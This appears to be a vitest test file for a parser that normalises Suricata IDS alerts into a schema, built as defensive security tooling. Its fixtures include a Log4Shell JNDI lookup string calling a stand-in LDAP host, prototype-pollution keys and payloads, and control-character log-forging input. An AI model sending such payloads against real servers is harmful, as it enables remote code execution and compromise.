import { IdsAlertV1 } from "@vigil/schema";
import { describe, expect, it } from "vitest";
import { NetworkSet } from "./network.ts";
import {
  extractCves,
  mapSeverity,
  normaliseSuricataTime,
  type ParseResult,
  parseSuricataEve,
} from "./suricata.ts";

const fixedNow = () => new Date("2024-01-17T10:00:00.000Z");

/** A Log4Shell attempt from the Internet against an internal web server, as Suricata 7 writes it. */
const log4shell = {
  timestamp: "2024-01-17T10:52:17.542011+0100",
  flow_id: 1_530_218_453_296_374,
  in_iface: "ens192",
  event_type: "alert",
  src_ip: "203.0.113.45",
  src_port: 51_234,
  dest_ip: "10.20.3.40",
  dest_port: 8080,
  proto: "TCP",
  community_id: "1:jyzqoI6B8pdQjfMfK9MqhHwbZn8=",
  app_proto: "http",
  host: "sensor-dmz-1",
  alert: {
    action: "allowed",
    gid: 1,
    signature_id: 2_034_647,
    rev: 2,
    signature: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
    category: "Attempted Administrator Privilege Gain",
    severity: 1,
    metadata: {
      attack_target: ["Server"],
      created_at: ["2021_12_10"],
      cve: ["CVE_2021_44228"],
      deployment: ["Perimeter", "Internal"],
      signature_severity: ["Major"],
      updated_at: ["2021_12_14"],
    },
  },
  http: {
    hostname: "portal.corp.example",
    url: `/?x=\${jndi:ldap://198.51.100.9:1389/a}`,
    http_method: "GET",
  },
  payload_printable: `GET /?x=\${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1`,
  stream: 0,
  flow: {
    pkts_toserver: 4,
    pkts_toclient: 3,
    bytes_toserver: 512,
    bytes_toclient: 380,
    start: "2024-01-17T10:52:17.401011+0100",
  },
};

function line(record: unknown): string {
  return JSON.stringify(record);
}

function withAlert(patch: Record<string, unknown>): string {
  return line({ ...log4shell, alert: { ...log4shell.alert, ...patch } });
}

function expectAlert(result: ParseResult): IdsAlertV1 {
  if (result.status !== "alert") throw new Error(`expected an alert, got ${JSON.stringify(result)}`);
  // Every alert the parser emits is publishable as is.
  return IdsAlertV1.parse(result.alert);
}

function expectInvalid(result: ParseResult, kind: string, reason: RegExp | string): void {
  expect(result.status).toBe("invalid");
  if (result.status !== "invalid") return;
  expect(result.kind).toBe(kind);
  if (typeof reason === "string") expect(result.reason).toContain(reason);
  else expect(result.reason).toMatch(reason);
}

describe("parseSuricataEve: alerts", () => {
  it("normalises a real-looking EVE alert into IdsAlertV1", () => {
    const alert = expectAlert(parseSuricataEve(line(log4shell), { now: fixedNow }));
    expect(alert).toMatchObject({
      schema: "vigil.ids.alert/v1",
      time: "2024-01-17T10:52:17.542011+01:00",
      observed_time: "2024-01-17T10:00:00.000Z",
      product: "suricata",
      sensor: "sensor-dmz-1",
      src: { ip: "203.0.113.45", port: 51_234 },
      dst: { ip: "10.20.3.40", port: 8080 },
      asset_ip: "10.20.3.40",
      direction: "inbound",
      protocol: "tcp",
      app_protocol: "http",
      flow_id: "1530218453296374",
      community_id: "1:jyzqoI6B8pdQjfMfK9MqhHwbZn8=",
      signature: {
        id: 2_034_647,
        rev: 2,
        gid: 1,
        message: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        category: "Attempted Administrator Privilege Gain",
        product_severity: 1,
      },
      action: "allowed",
      severity: "high",
      cves: ["CVE-2021-44228"],
      references: [],
      http: {
        hostname: "portal.corp.example",
        url: `/?x=\${jndi:ldap://198.51.100.9:1389/a}`,
        method: "GET",
      },
      payload_printable: `GET /?x=\${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1`,
    });
    expect(alert.metadata.deployment).toEqual(["Perimeter", "Internal"]);
    expect(alert.id).toMatch(/^ids-[0-9a-f]{64}$/);
  });

  it("gives the same id to the same line read twice, and a different one to another event", () => {
    const first = expectAlert(parseSuricataEve(line(log4shell), { now: fixedNow }));
    const again = expectAlert(parseSuricataEve(Buffer.from(line(log4shell)), { now: () => new Date() }));
    expect(again.id).toBe(first.id);
    const otherFlow = expectAlert(parseSuricataEve(line({ ...log4shell, flow_id: 42 })));
    const otherRule = expectAlert(parseSuricataEve(withAlert({ signature_id: 2_034_648 })));
    const otherPort = expectAlert(parseSuricataEve(line({ ...log4shell, src_port: 51_235 })));
    expect(new Set([first.id, otherFlow.id, otherRule.id, otherPort.id]).size).toBe(4);
  });

  it("keeps 64-bit flow ids exact, which JSON numbers cannot hold", () => {
    const text = line(log4shell).replace('"flow_id":1530218453296374', '"flow_id":18446744073709551557');
    const twin = line(log4shell).replace('"flow_id":1530218453296374', '"flow_id":18446744073709551556');
    const alert = expectAlert(parseSuricataEve(text));
    expect(alert.flow_id).toBe("18446744073709551557");
    expect(expectAlert(parseSuricataEve(twin)).id).not.toBe(alert.id);
  });

  it.each([
    ["203.0.113.45", "10.20.3.40", "inbound", "10.20.3.40"],
    ["10.20.41.23", "198.51.100.20", "outbound", "10.20.41.23"],
    ["10.20.41.23", "10.20.1.10", "internal", "10.20.1.10"],
    ["203.0.113.45", "198.51.100.20", "external", "198.51.100.20"],
    ["2001:db8:ffff::1", "fd00:20::5", "inbound", "fd00:20::5"],
  ])("classifies %s -> %s as %s with asset %s", (src, dst, direction, asset) => {
    const alert = expectAlert(parseSuricataEve(line({ ...log4shell, src_ip: src, dest_ip: dst })));
    expect(alert.direction).toBe(direction);
    expect(alert.asset_ip).toBe(asset);
  });

  it("decides direction with the given home networks", () => {
    const homeNets = ["172.16.10.0/24"];
    const toDmz = expectAlert(parseSuricataEve(line({ ...log4shell, dest_ip: "172.16.10.5" }), { homeNets }));
    expect(toDmz).toMatchObject({ direction: "inbound", asset_ip: "172.16.10.5" });
    // 10.20.3.40 is private but not in this deployment's home nets.
    const elsewhere = expectAlert(parseSuricataEve(line(log4shell), { homeNets: new NetworkSet(homeNets) }));
    expect(elsewhere.direction).toBe("external");
  });

  it("takes the sensor from the record's host, else from the options", () => {
    expect(expectAlert(parseSuricataEve(line(log4shell), { sensor: "cli" })).sensor).toBe("sensor-dmz-1");
    const { host: _host, ...withoutHost } = log4shell;
    expect(expectAlert(parseSuricataEve(line(withoutHost), { sensor: "cli" })).sensor).toBe("cli");
    expect(expectAlert(parseSuricataEve(line(withoutHost))).sensor).toBeUndefined();
  });

  it("accepts an ICMP alert without ports, and a blocked action from IPS mode", () => {
    const { src_port: _s, dest_port: _d, app_proto: _a, http: _h, ...icmp } = log4shell;
    const alert = expectAlert(
      parseSuricataEve(line({ ...icmp, proto: "ICMP", alert: { ...log4shell.alert, action: "blocked" } })),
    );
    expect(alert.src).toEqual({ ip: "203.0.113.45" });
    expect(alert.protocol).toBe("icmp");
    expect(alert.action).toBe("blocked");
    expect(alert.http).toBeUndefined();
  });

  it("accepts the minimum Suricata writes for an alert", () => {
    const minimal = {
      timestamp: "2024-01-17T10:52:17.000000+0000",
      event_type: "alert",
      src_ip: "10.20.41.23",
      dest_ip: "10.20.1.10",
      proto: "UDP",
      alert: { signature_id: 1, signature: "TEST" },
    };
    const alert = expectAlert(parseSuricataEve(line(minimal)));
    expect(alert).toMatchObject({
      severity: "low",
      cves: [],
      metadata: {},
      references: [],
      time: "2024-01-17T10:52:17.000000+00:00",
    });
  });

  it("collects references from metadata and Suricata 8's alert.references, and CVEs from all of them", () => {
    const alert = expectAlert(
      parseSuricataEve(
        withAlert({
          signature: "Possible Zerologon Attempt",
          metadata: { reference: ["url,github.com/corelight/zerologon"], cve: ["cve-2020-1472"] },
          references: [
            "https://cve.mitre.org/cgi-bin/cvename.cgi?name=2014-0160",
            "https://github.com/corelight/zerologon",
          ],
        }),
      ),
    );
    expect(alert.references).toEqual([
      "url,github.com/corelight/zerologon",
      "https://cve.mitre.org/cgi-bin/cvename.cgi?name=2014-0160",
      "https://github.com/corelight/zerologon",
    ]);
    expect(alert.cves).toEqual(["CVE-2014-0160", "CVE-2020-1472"]);
  });
});

describe("severity mapping", () => {
  it.each([
    [1, [], "high"],
    [2, [], "medium"],
    [3, [], "low"],
    [4, [], "informational"],
    [255, [], "informational"],
    [undefined, [], "low"],
    [3, ["Major"], "high"],
    [4, ["Major"], "high"],
    [1, ["Major"], "high"],
    [3, ["Critical"], "critical"],
    [2, ["Minor"], "medium"],
    [2, ["Informational"], "medium"],
  ] as const)("priority %s with signature_severity %j -> %s", (priority, declared, expected) => {
    expect(mapSeverity(priority, declared)).toBe(expected);
  });
});

describe("CVE extraction", () => {
  it("normalises the spellings rule sets use and deduplicates", () => {
    expect(
      extractCves([
        "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)",
        "CVE_2021_44228",
        "cve-2021-45046",
        "cve,2017-0144",
        "2019_0708",
        "https://nvd.nist.gov/vuln/detail/CVE-2022-26134",
        "no cve here: CVE-21-1, CVE-2021-12345678",
      ]),
    ).toEqual(["CVE-2017-0144", "CVE-2019-0708", "CVE-2021-44228", "CVE-2021-45046", "CVE-2022-26134"]);
  });
});

describe("time normalisation", () => {
  it.each([
    ["2024-01-17T10:52:17.542011+0100", "2024-01-17T10:52:17.542011+01:00"],
    ["2024-01-17T10:52:17.542011-0530", "2024-01-17T10:52:17.542011-05:30"],
    ["2024-01-17T10:52:17+01:00", "2024-01-17T10:52:17+01:00"],
    ["2024-01-17T10:52:17.5Z", "2024-01-17T10:52:17.5Z"],
  ])("%s -> %s", (input, output) => {
    expect(normaliseSuricataTime(input)).toBe(output);
  });

  it.each(["2024-01-17 10:52:17", "2024-02-30T10:52:17+0100", "2024-01-17T25:00:00+0100", "1705485137", ""])(
    "refuses %j",
    (input) => {
      expect(normaliseSuricataTime(input)).toBeUndefined();
    },
  );
});

describe("parseSuricataEve: other event types", () => {
  it.each(["flow", "http", "dns", "tls", "ssh", "fileinfo", "stats", "anomaly", "netflow"])(
    "ignores %s",
    (eventType) => {
      const result = parseSuricataEve(
        line({ timestamp: "2024-01-17T10:52:17.542011+0100", event_type: eventType, flow_id: 1 }),
      );
      expect(result).toEqual({ status: "ignored", eventType });
    },
  );

  it("does not call a record without a valid timestamp 'ignored'", () => {
    expectInvalid(
      parseSuricataEve(line({ event_type: "flow" })),
      "schema",
      "timestamp: expected string, got nothing (missing)",
    );
    expectInvalid(
      parseSuricataEve(line({ timestamp: "yesterday", event_type: "dns" })),
      "schema",
      "timestamp: expected a time like",
    );
    expectInvalid(
      parseSuricataEve(line({ timestamp: "2024-01-17T10:52:17+0100" })),
      "schema",
      "event_type: expected string",
    );
    expectInvalid(
      parseSuricataEve(line({ timestamp: "2024-01-17T10:52:17+0100", event_type: 7 })),
      "schema",
      "event_type: expected string, got number 7",
    );
  });
});

describe("parseSuricataEve: bad input never throws", () => {
  const full = line(log4shell);

  it.each([
    [
      "malformed JSON",
      '{"timestamp": "2024-01-17T10:52:17+0100", event_type: alert}',
      "json",
      "not valid JSON",
    ],
    ["a truncated line", full.slice(0, Math.floor(full.length / 2)), "json", "not valid JSON"],
    ["trailing garbage", `${full}}`, "json", "not valid JSON"],
    ["an array", "[1,2,3]", "not-object", "expected a JSON object (one EVE record), got array"],
    ["a number", "42", "not-object", "got number 42"],
    ["a string", '"alert"', "not-object", 'got string "alert"'],
    ["null", "null", "not-object", "got null"],
    ["true", "true", "not-object", "got boolean true"],
    ["whitespace only", "   ", "empty", "line is empty"],
  ])("%s", (_name, input, kind, reason) => {
    expectInvalid(parseSuricataEve(input), kind, reason);
  });

  it("refuses bytes that are not UTF-8", () => {
    const bytes = Buffer.concat([
      Buffer.from('{"timestamp":"'),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('"}'),
    ]);
    expectInvalid(parseSuricataEve(bytes), "encoding", "not valid UTF-8");
  });

  it.each([
    [
      "signature_id as a string",
      withAlert({ signature_id: "2034647" }),
      'alert.signature_id: expected number, got string "2034647"',
    ],
    [
      "signature_id as a fraction",
      withAlert({ signature_id: 1.5 }),
      "alert.signature_id: expected an integer, got number 1.5",
    ],
    [
      "negative signature_id",
      withAlert({ signature_id: -1 }),
      "alert.signature_id: expected at least 0, got -1",
    ],
    [
      "src_port as a string",
      line({ ...log4shell, src_port: "51234" }),
      'src_port: expected number, got string "51234"',
    ],
    [
      "port out of range",
      line({ ...log4shell, dest_port: 70_000 }),
      "dest_port: expected at most 65535, got 70000",
    ],
    [
      "missing alert",
      line({ ...log4shell, alert: undefined }),
      "alert: expected object, got nothing (missing)",
    ],
    [
      "alert as a string",
      line({ ...log4shell, alert: "ET EXPLOIT" }),
      'alert: expected object, got string "ET EXPLOIT"',
    ],
    [
      "missing signature",
      withAlert({ signature: undefined }),
      "alert.signature: expected string, got nothing (missing)",
    ],
    [
      "unknown action",
      withAlert({ action: "drop" }),
      'alert.action: expected "allowed" or "blocked", got string "drop"',
    ],
    [
      "metadata values not lists",
      withAlert({ metadata: { cve: "CVE_2021_44228" } }),
      "alert.metadata.cve: expected array",
    ],
    [
      "metadata not an object",
      withAlert({ metadata: ["cve"] }),
      "alert.metadata: expected record, got array",
    ],
    [
      "severity as a string",
      withAlert({ severity: "high" }),
      'alert.severity: expected number, got string "high"',
    ],
    [
      "flow_id as an object",
      line({ ...log4shell, flow_id: { id: 1 } }),
      "flow_id: expected an unsigned integer, got object",
    ],
    [
      "proto as a boolean",
      line({ ...log4shell, proto: true }),
      "proto: expected a protocol name or number, got boolean true",
    ],
    [
      "http not an object",
      line({ ...log4shell, http: "GET /" }),
      'http: expected object, got string "GET /"',
    ],
  ])("wrong field type: %s", (_name, input, reason) => {
    expectInvalid(parseSuricataEve(input), "schema", reason);
  });

  it.each([
    ["10.20.3.400", "dest_ip: expected an IP address"],
    ["10.20.3", "dest_ip: expected an IP address"],
    ["fe80::1%eth0", "dest_ip: expected an IP address"],
    ["2001:db8:::1", "dest_ip: expected an IP address"],
    ["corp.example", "dest_ip: expected an IP address"],
    ["", "dest_ip: expected an IP address"],
  ])("invalid IP %j", (ip, reason) => {
    expectInvalid(parseSuricataEve(line({ ...log4shell, dest_ip: ip })), "schema", reason);
  });

  it("names a non-string IP's type", () => {
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, src_ip: 167_772_161 })),
      "schema",
      "src_ip: expected an IP address, got number 167772161",
    );
  });

  it.each([
    "2024-01-17 10:52:17.542011+0100",
    "2024-13-17T10:52:17.542011+0100",
    "2024-02-30T10:52:17.542011+0100",
    "2024-01-17T10:52:17.542011",
    "2024-01-17T10:52:17.542011+01",
    "17/01/2024 10:52:17",
  ])("bad timestamp %j", (timestamp) => {
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, timestamp })),
      "schema",
      `timestamp: expected a time like 2024-01-17T10:52:17.542011+0100, got ${JSON.stringify(timestamp)}`,
    );
  });

  it("refuses a timestamp that is a number", () => {
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, timestamp: 1_705_485_137 })),
      "schema",
      "timestamp: expected string, got number 1705485137",
    );
  });

  it("refuses a very long signature message, and says how long it was", () => {
    expectInvalid(
      parseSuricataEve(withAlert({ signature: "A".repeat(100_000) })),
      "schema",
      "alert.signature: too long: 100000 characters, at most 1024",
    );
  });

  it("refuses control characters in names, showing them escaped", () => {
    const result = parseSuricataEve(withAlert({ signature: "ET EXPLOIT\u001b[31m red\u0000" }));
    expectInvalid(result, "schema", "alert.signature: contains control characters");
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, host: "sensor\nforged log line" })),
      "schema",
      "host: contains control characters",
    );
  });

  it("cuts over-long evidence instead of losing the alert", () => {
    const alert = expectAlert(
      parseSuricataEve(line({ ...log4shell, payload_printable: "x".repeat(50_000) })),
    );
    expect(alert.payload_printable?.length).toBeLessThan(16_500);
    expect(alert.payload_printable).toContain("[truncated 33616 characters]");
  });

  it.each([
    [
      "alert.metadata",
      withAlert({ metadata: JSON.parse('{"__proto__": {"polluted": ["yes"]}, "tag": ["x"]}') }),
    ],
    ["the record", line(log4shell).replace('{"timestamp"', '{"__proto__":{"polluted":"yes"},"timestamp"')],
    ["http", line(log4shell).replace('"http":{', '"http":{"constructor":{"prototype":{"polluted":"yes"}},')],
  ])("refuses __proto__-style keys in %s without polluting prototypes", (where, input) => {
    const result = parseSuricataEve(input);
    expectInvalid(result, "schema", /(__proto__|constructor): key not allowed in an EVE record/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty("polluted");
    expect(where).toBeTruthy();
  });

  it("does not mistake a payload that mentions __proto__ for a hostile key", () => {
    const alert = expectAlert(
      parseSuricataEve(line({ ...log4shell, payload_printable: 'POST {"__proto__":{"isAdmin":true}}' })),
    );
    expect(alert.payload_printable).toContain("__proto__");
    expect(Object.getPrototypeOf(alert.metadata)).toBe(Object.prototype);
  });

  it("reports several problems of one record together, bounded", () => {
    const result = parseSuricataEve(
      line({
        timestamp: "x",
        event_type: "alert",
        src_ip: 1,
        dest_ip: 2,
        proto: [],
        alert: { signature_id: "a", signature: 3 },
      }),
    );
    expectInvalid(result, "schema", /^timestamp: .*; src_ip: .*; dest_ip: .*; and \d+ more$/);
  });
});
